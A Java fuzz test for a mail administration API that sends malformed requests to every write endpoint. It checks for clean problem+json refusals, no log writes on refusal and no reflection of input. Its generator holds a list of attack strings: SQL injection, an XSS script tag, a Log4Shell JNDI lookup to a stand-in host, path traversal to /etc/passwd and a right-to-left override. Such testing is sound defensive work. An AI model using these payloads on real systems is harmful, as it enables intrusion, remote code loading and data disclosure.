package org.mailledger.fault;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.LongAdder;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.mailledger.testsupport.secrets.TestSecrets;

/**
 * Generated and broken input thrown at every write endpoint of the packaged app: each try takes one
 * endpoint of {@link #ENDPOINTS} with a valid request and breaks one thing in it (a field replaced
 * by a hostile string or a value of the wrong type, a field dropped or added, the body cut short or
 * replaced by garbage, the wrong content type, a path parameter replaced). Whatever the input:
 * never a 5xx, every refusal is problem+json, a refused request appends nothing to the log, and no
 * refusal repeats a hostile input. Accepted requests are counted too (a generated value can be
 * valid).
 */
class InputFuzzTest {

  /** One write endpoint with a valid request; {@code {name}} in the path names a seeded entity. */
  record Endpoint(String method, String path, String body) {
    @Override
    public String toString() {
      return method + " " + path;
    }
  }

  static final String PASSWORD = TestSecrets.password("fuzz-valid");

  /** Every write endpoint. A new endpoint is one more line here. */
  static final List<Endpoint> ENDPOINTS =
      List.of(
          new Endpoint(
              "POST",
              "/api/v1/domains",
              "{'domain':'new.example','description':'d','quotaGb':1,'maxQuotaGb':5,"
                  + "'maxMailboxes':10,'maxAliases':10}"),
          new Endpoint(
              "PATCH",
              "/api/v1/domains/{domain}",
              "{'active':true,'description':'x','quotaGb':1,'maxMailboxes':10,'maxAliases':10}"),
          new Endpoint("DELETE", "/api/v1/domains/{domain}", null),
          new Endpoint(
              "POST",
              "/api/v1/domains/{domain}/mailboxes",
              "{'localPart':'new','password':'"
                  + PASSWORD
                  + "','name':'N','quotaGb':1,'sendOnly':false}"),
          new Endpoint(
              "PATCH",
              "/api/v1/mailboxes/{mailbox}",
              "{'active':true,'name':'A','quotaGb':1,'sendOnly':false}"),
          new Endpoint(
              "PUT", "/api/v1/mailboxes/{mailbox}/password", "{'password':'" + PASSWORD + "'}"),
          new Endpoint("DELETE", "/api/v1/mailboxes/{mailbox}", null),
          new Endpoint(
              "POST",
              "/api/v1/domains/{domain}/aliases",
              "{'localPart':'new','recipients':['a@b.example'],'senders':['alice@d.example'],"
                  + "'description':'x'}"),
          new Endpoint("PATCH", "/api/v1/aliases/{alias}", "{'active':true,'description':'x'}"),
          new Endpoint(
              "POST", "/api/v1/aliases/{alias}/recipients", "{'address':'c@elsewhere.net'}"),
          new Endpoint("DELETE", "/api/v1/aliases/{alias}/recipients/{recipient}", null),
          new Endpoint("POST", "/api/v1/aliases/{alias}/senders", "{'mailbox':'alice@d.example'}"),
          new Endpoint("DELETE", "/api/v1/aliases/{alias}/senders/{mailbox}", null),
          new Endpoint("DELETE", "/api/v1/aliases/{alias}", null),
          new Endpoint(
              "PUT",
              "/api/v1/tls-policies/{tlsdomain}",
              "{'policy':'secure','params':'match=nexthop','description':'x'}"),
          new Endpoint("DELETE", "/api/v1/tls-policies/{tlsdomain}", null),
          new Endpoint(
              "POST",
              "/api/v1/admins",
              "{'name':'newadmin','password':'"
                  + PASSWORD
                  + "','role':'DOMAIN_ADMIN','domains':['d.example']}"),
          new Endpoint("PUT", "/api/v1/admins/{admin}/password", "{'password':'" + PASSWORD + "'}"),
          new Endpoint("POST", "/api/v1/admins/{admin}/domains", "{'domain':'d.example'}"),
          new Endpoint("DELETE", "/api/v1/admins/{admin}/domains/{domain}", null),
          new Endpoint("PATCH", "/api/v1/admins/{admin}", "{'active':true}"),
          new Endpoint("DELETE", "/api/v1/admins/{admin}", null),
          new Endpoint("POST", "/api/v1/tokens", "{'description':'x','ttlDays':1}"),
          new Endpoint("DELETE", "/api/v1/tokens/{token}", null),
          new Endpoint("POST", "/api/v1/projections/{layout}/rebuild", null));

  static final Map<String, String> SEEDS = new ConcurrentHashMap<>();
  static final Map<String, LongAdder> OUTCOMES = new ConcurrentHashMap<>();
  static final LongAdder TRIES = new LongAdder();
  private static final Pattern PARAM = Pattern.compile("\\{([a-z]+)}");
  // What may be repeated back harmlessly: letters and digits of any script (a Unicode domain is
  // shown as such), spaces and the punctuation of addresses; no markup, quote, control or format
  // character (such as a right-to-left override).
  private static final Pattern HARMLESS = Pattern.compile("[\\p{L}\\p{M}\\p{N} ._@+-]*");

  static SharedApp shared;

  @BeforeContainer
  static void seed() {
    shared = SharedApp.get();
    Http http = shared.http;
    String root = SharedApp.ROOT;
    ok(http.send("POST", "/api/v1/domains?wait=true", root, json("{'domain':'d.example'}")));
    ok(
        http.send(
            "POST",
            "/api/v1/domains/d.example/mailboxes?wait=true",
            root,
            json("{'localPart':'alice','password':'" + PASSWORD + "'}")));
    ok(
        http.send(
            "POST",
            "/api/v1/domains/d.example/aliases?wait=true",
            root,
            json(
                "{'localPart':'team','recipients':['bob@elsewhere.net'],"
                    + "'senders':['alice@d.example']}")));
    ok(
        http.send(
            "PUT",
            "/api/v1/tls-policies/tls.example?wait=true",
            root,
            json("{'policy':'encrypt'}")));
    ok(
        http.send(
            "POST",
            "/api/v1/admins",
            root,
            json(
                "{'name':'deputy','password':'"
                    + PASSWORD
                    + "','role':'DOMAIN_ADMIN','domains':['d.example']}")));
    Http.Answer token =
        http.send("POST", "/api/v1/tokens", root, json("{'description':'fuzz','ttlDays':1}"));
    ok(token);
    SEEDS.putAll(
        Map.of(
            "domain", "d.example",
            "mailbox", "alice@d.example",
            "alias", "team@d.example",
            "recipient", "bob@elsewhere.net",
            "tlsdomain", "tls.example",
            "admin", "deputy",
            "token", token.json().path("id").asText(),
            "layout", "mum"));
  }

  @AfterContainer
  static void report() {
    System.out.printf(
        "input fuzzing: %d tries on %d write endpoints; outcomes %s%n",
        TRIES.sum(), ENDPOINTS.size(), new TreeMap<>(OUTCOMES));
  }

  /** One broken request: what was broken, and how. */
  record Try(
      Endpoint endpoint,
      String method,
      String path,
      String contentType,
      String body,
      String hostile,
      String broken) {
    @Override
    public String toString() {
      return method + " " + path + " [" + broken + "] body=" + body;
    }
  }

  @Property(tries = 400, shrinking = ShrinkingMode.OFF, seed = "")
  void brokenInputIsRefusedCleanly(@ForAll("tries") Try t) {
    TRIES.increment();
    long before = shared.log.count();
    Http.Answer answer =
        shared.http.send(
            t.method(),
            t.path(),
            SharedApp.ROOT,
            t.contentType(),
            t.body(),
            "fuzz-" + java.util.UUID.randomUUID());
    long after = shared.log.count();
    String outcome =
        tomcatRefusal(answer)
            ? "400 refused by Tomcat"
            : answer.status()
                + (answer.type() == null
                    ? ""
                    : " " + answer.type().replace("urn:mailledger:problem:", ""));
    OUTCOMES.computeIfAbsent(outcome, k -> new LongAdder()).increment();

    assertThat(answer.status()).as("%s answered %s", t, answer).isBetween(200, 499);
    if (answer.ok()) {
      if (t.body() != null
          && t.body().contains(PASSWORD) == false
          && t.hostile() != null
          && t.broken().startsWith("password")) {
        // A generated value was taken as a password: the secrets check looks for it too.
        registerIfLine(t.hostile());
      }
      return;
    }
    // Tomcat refuses some encoded characters in a URL (an encoded slash or backslash) before the
    // request reaches the app, with its own HTML page: known, counted, still checked for
    // reflection below.
    if (!tomcatRefusal(answer)) {
      assertThat(answer.problem()).as("%s answered %s", t, answer).isTrue();
    }
    assertThat(after).as("events appended by the refused %s", t).isEqualTo(before);
    if (t.hostile() != null
        && !HARMLESS.matcher(t.hostile()).matches()
        && t.hostile().length() >= 3) {
      assertThat(answer.body()).as("%s reflected in %s", t, answer).doesNotContain(t.hostile());
      assertThat(texts(answer.json()))
          .as("%s reflected in %s", t, answer)
          .noneMatch(text -> text.contains(t.hostile()));
    }
  }

  @Provide
  Arbitrary<Try> tries() {
    return Combinators.combine(
            Arbitraries.of(ENDPOINTS),
            Arbitraries.integers().between(0, 7),
            hostile(),
            Arbitraries.integers().between(0, 1000))
        .as(InputFuzzTest::make);
  }

  static Arbitrary<String> hostile() {
    return Arbitraries.oneOf(
        Arbitraries.strings().all().ofMaxLength(80),
        Arbitraries.strings().ascii().ofMaxLength(80),
        Arbitraries.strings()
            .withChars("<>\"'%\\/;`${}()&|\u0000\r\n\t ")
            .ofMinLength(1)
            .ofMaxLength(20),
        Arbitraries.of(
            "' OR '1'='1",
            "'; DROP TABLE domain_event_entry; --",
            "<script>alert(1)</script>",
            "${jndi:ldap://x.example/a}",
            "%s%n%x",
            "../../../etc/passwd",
            "a@b@c.example",
            "\u202Eevil\u202C.example",
            "x".repeat(5000),
            "\uD83D\uDCE7@\uD83D\uDCE7.example",
            "null",
            "-1",
            "99999999999999999999"));
  }

  static Try make(Endpoint endpoint, int kind, String hostile, int position) {
    List<String> params = new ArrayList<>();
    Matcher m = PARAM.matcher(endpoint.path());
    while (m.find()) {
      params.add(m.group(1));
    }
    // Without a body, or for a delete (whose valid form would delete a seed), the path is broken.
    boolean breakPath = endpoint.body() == null || kind == 0;
    String body = endpoint.body() == null ? null : json(endpoint.body());
    if (breakPath && !params.isEmpty()) {
      String param = params.get(position % params.size());
      return new Try(
          endpoint,
          endpoint.method(),
          path(endpoint, param, hostile),
          "application/json",
          body,
          hostile,
          "path " + param);
    }
    if (body == null) {
      // Nothing in the path to break (POST /tokens has a body): send garbage instead.
      return new Try(
          endpoint,
          endpoint.method(),
          path(endpoint, null, null),
          "application/json",
          hostile,
          hostile,
          "garbage body");
    }
    ObjectNode valid = (ObjectNode) parse(body);
    List<String> fields = new ArrayList<>();
    valid.fieldNames().forEachRemaining(fields::add);
    String field = fields.get(position % fields.size());
    String path = path(endpoint, null, null);
    return switch (kind) {
      case 1 -> {
        valid.put(field, hostile);
        yield new Try(
            endpoint,
            endpoint.method(),
            path,
            "application/json",
            valid.toString(),
            hostile,
            field + " = hostile string");
      }
      case 2 -> {
        JsonNode wrong =
            switch (position % 5) {
              case 0 -> JsonNodeFactory.instance.numberNode(position - 500);
              case 1 -> JsonNodeFactory.instance.arrayNode().add(hostile);
              case 2 -> JsonNodeFactory.instance.objectNode().put("x", hostile);
              case 3 -> JsonNodeFactory.instance.nullNode();
              default -> JsonNodeFactory.instance.booleanNode(true);
            };
        valid.set(field, wrong);
        yield new Try(
            endpoint,
            endpoint.method(),
            path,
            "application/json",
            valid.toString(),
            hostile,
            field + " of the wrong type");
      }
      case 3 -> {
        valid.remove(field);
        valid.put(hostile.isEmpty() ? "unknown" : hostile, "x");
        yield new Try(
            endpoint,
            endpoint.method(),
            path,
            "application/json",
            valid.toString(),
            hostile,
            "without " + field + ", with an unknown field");
      }
      case 4 -> {
        String whole = valid.toString();
        yield new Try(
            endpoint,
            endpoint.method(),
            path,
            "application/json",
            whole.substring(0, position % whole.length()),
            null,
            "cut short");
      }
      case 5 ->
          new Try(
              endpoint,
              endpoint.method(),
              path,
              "text/plain",
              valid.toString(),
              null,
              "as text/plain");
      case 6 ->
          new Try(
              endpoint,
              endpoint.method(),
              path,
              "application/json",
              "[" + valid + "]",
              null,
              "an array, not an object");
      default ->
          new Try(
              endpoint,
              endpoint.method(),
              path,
              "application/json",
              hostile,
              hostile,
              "garbage body");
    };
  }

  private static String path(Endpoint endpoint, String brokenParam, String hostile) {
    Matcher m = PARAM.matcher(endpoint.path());
    StringBuilder path = new StringBuilder();
    while (m.find()) {
      String value = m.group(1).equals(brokenParam) ? hostile : SEEDS.get(m.group(1));
      m.appendReplacement(
          path,
          Matcher.quoteReplacement(
              URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20")));
    }
    m.appendTail(path);
    return path.toString();
  }

  private static boolean tomcatRefusal(Http.Answer answer) {
    return answer.status() == 400
        && answer.contentType().startsWith("text/html")
        && answer.body().contains("HTTP Status 400");
  }

  private static List<String> texts(JsonNode json) {
    List<String> texts = new ArrayList<>();
    if (json == null) {
      return texts;
    }
    if (json.isTextual()) {
      texts.add(json.asText());
    }
    for (Iterator<JsonNode> it = json.elements(); it.hasNext(); ) {
      texts.addAll(texts(it.next()));
    }
    json.fieldNames().forEachRemaining(texts::add);
    return texts;
  }

  private static void registerIfLine(String password) {
    // A line of the registry; a lone surrogate has no UTF-8 form to look for in a dump anyway.
    if (password.length() >= 8
        && password.chars().noneMatch(Character::isISOControl)
        && StandardCharsets.UTF_8.newEncoder().canEncode(password)) {
      TestSecrets.register(password);
    }
  }

  static String json(String singleQuoted) {
    return singleQuoted.replace('\'', '"');
  }

  private static JsonNode parse(String body) {
    try {
      return Http.JSON.readTree(body);
    } catch (java.io.IOException e) {
      throw new IllegalStateException(e);
    }
  }

  private static void ok(Http.Answer answer) {
    assertThat(answer.status()).as(answer.toString()).isBetween(200, 202);
  }
}
